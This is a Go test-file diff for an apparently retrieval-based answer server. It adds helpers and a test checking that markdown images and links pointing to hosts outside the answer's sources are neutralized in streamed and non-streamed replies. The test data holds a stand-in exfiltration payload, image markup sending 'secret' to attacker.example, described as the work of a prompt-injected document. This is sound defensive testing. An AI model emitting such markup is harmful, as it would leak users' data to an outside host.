@@ -36,6 +36,21 @@ func start(t *testing.T, model provider.ChatModel, cfg server.Config) (*httptest
 // corpus indexed when corpus is set, uploads kept in dir/uploads.
 func startAt(t *testing.T, dir string, corpus bool, model provider.ChatModel, cfg server.Config) (*httptest.Server, string, *index.Store) {
 	t.Helper()
+	return startEngine(t, dir, corpus, model, cfg, answer.Config{})
+}
+
+// startKeep serves the sample corpus with model, keeping the images and
+// links it writes when keep is set.
+func startKeep(t *testing.T, model provider.ChatModel, keep bool) (*httptest.Server, string) {
+	t.Helper()
+	ts, name, _ := startEngine(t, t.TempDir(), true, model, server.Config{}, answer.Config{KeepLinks: keep})
+	return ts, name
+}
+
+// startEngine is startAt with the engine's configuration (its Model,
+// Retriever and Library are set here).
+func startEngine(t *testing.T, dir string, corpus bool, model provider.ChatModel, cfg server.Config, acfg answer.Config) (*httptest.Server, string, *index.Store) {
+	t.Helper()
 	ctx := context.Background()
 	st, err := index.Open(ctx, dir, index.Options{Create: true})
 	if err != nil {
@@ -57,7 +72,8 @@ func startAt(t *testing.T, dir string, corpus bool, model provider.ChatModel, cf
 	if model == nil {
 		model = answer.NewExtractive(answer.ExtractiveOptions{TermStats: st.TermStats})
 	}
-	eng, err := answer.New(answer.Config{Model: model, Retriever: s, Library: st})
+	acfg.Model, acfg.Retriever, acfg.Library = model, s, st
+	eng, err := answer.New(acfg)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -449,5 +465,38 @@ func TestClientGoneLogged(t *testing.T) {
 				}
 			}
 		})
+	}
+}
+
+// TestExfiltrationNeutralized: an image or link the model writes to a host
+// that is not one of the answer's sources (a prompt-injected document's
+// doing) reaches no client as markup, streamed or not, on /v1/ask and
+// /v1/chat/completions; --allow-external-links (answer.Config.KeepLinks)
+// keeps it.
+func TestExfiltrationNeutralized(t *testing.T) {
+	// The markup is split across deltas.
+	turn := modeltest.Turn{Text: []string{"WAL keeps a log [doc:1]. ![", "](https://attacker.exa", "mple/?q=secret) and [more](https://attacker.example/?q=", "secret).\n\n```\n![](https://in.code/)\n```"}}
+	for _, keep := range []bool{false, true} {
+		srv := modeltest.NewServer(t, modeltest.Script{Turns: []modeltest.Turn{turn, turn, turn, turn}})
+		m, _ := provider.NewChatModel("openai:m", provider.Config{OpenAIBaseURL: srv.OpenAIBaseURL()})
+		ts, name := startKeep(t, m, keep)
+		for _, req := range []struct{ path, body, accept string }{
+			{"/v1/ask", `{"question":"what is WAL mode"}`, ""},
+			{"/v1/ask", `{"question":"what is WAL mode"}`, "text/event-stream"},
+			{"/v1/chat/completions", `{"model":"` + name + `","messages":[{"role":"user","content":"what is WAL mode"}]}`, ""},
+			{"/v1/chat/completions", `{"model":"` + name + `","stream":true,"messages":[{"role":"user","content":"what is WAL mode"}]}`, ""},
+		} {
+			resp, body := do(t, "POST", ts.URL+req.path, "application/json", req.body, "Accept", req.accept)
+			if resp.StatusCode != 200 {
+				t.Fatalf("%s %s: %d %s", req.path, req.body, resp.StatusCode, body)
+			}
+			leaked := strings.Contains(body, "attacker.example/?q=")
+			if leaked != keep || !strings.Contains(body, "https://in.code/") || !strings.Contains(body, "[1]") {
+				t.Errorf("keep %v: %s %s:\n%s", keep, req.path, req.body, body)
+			}
+			if !keep && !strings.Contains(body, `\\[image: attacker.example\\]`) {
+				t.Errorf("%s %s: no [image: attacker.example]:\n%s", req.path, req.body, body)
+			}
+		}
 	}
 }
